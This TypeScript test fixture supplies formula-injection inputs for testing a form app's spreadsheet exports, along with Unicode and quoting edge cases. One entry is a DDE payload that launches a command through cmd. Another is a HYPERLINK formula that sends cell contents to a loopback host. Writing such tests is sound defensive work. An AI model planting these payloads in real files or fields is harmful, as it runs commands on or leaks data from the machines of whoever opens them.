/** Texts that a spreadsheet may take for something else than text. */
export const hostileTexts: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"press here")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\n=1+1',
  '＝1+1',
  '\u202e=1+1',
  'first;=1+1',
  'first\n=1+1\n\t@SUM(1+1)',
  `'=1+1`,
  'She said "yes", twice; and left',
  'one line\nanother line\r\nthe last line',
  '猫を二匹、青い背景に、「油絵」で。',
  'שלום, שני חתולים (2)',
  'قطتان، من فضلك؛ 2',
  '🐈🐈 e\u0301',
];

/** A studio with a question of each kind. The name of an option is hostile too. */
export const studio = {
  questions: [
    { id: 'title', label: 'Title?', kind: 'text' },
    { id: 'story', label: 'Story?', kind: 'paragraph' },
    { id: 'size', label: 'Size?', kind: 'choice', options: [{ id: 'a4', name: '=1+1' }] },
    {
      id: 'moods',
      label: 'Moods?',
      kind: 'choices',
      options: [
        { id: 'calm', name: '@SUM(1+1)' },
        { id: 'dark', name: 'Dark, "very"' },
      ],
    },
    { id: 'figures', label: 'Figures?', kind: 'number' },
    { id: 'due', label: 'Due?', kind: 'date' },
    { id: 'public', label: 'Public?', kind: 'yes-no' },
    { id: '=1+1', label: 'Board?', kind: 'link' },
  ],
};

export interface HostileRequest {
  readonly payload: Readonly<Record<string, string>>;
  readonly answers: Readonly<Record<string, unknown>>;
}

export const hostileRequests: readonly HostileRequest[] = hostileTexts.map((text, index) => ({
  payload: { customerName: text, customerEmail: `customer${index}@example.org`, message: text },
  answers: {
    title: text,
    story: `${text}\n${text}`,
    size: 'a4',
    moods: ['calm', 'dark'],
    figures: index + 0.5,
    due: '2027-03-01',
    public: index % 2 === 0,
    '=1+1': 'https://example.org/?a=1,2&b="',
  },
}));
